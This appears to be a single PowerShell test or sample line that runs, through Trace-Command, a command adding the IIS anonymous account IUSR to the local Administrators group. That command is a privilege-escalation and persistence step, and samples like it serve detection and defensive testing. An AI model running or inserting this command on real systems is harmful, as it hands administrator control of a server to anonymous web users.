Trace-Command -Name x -Expression { net localgroup Administrators IUSR /add }
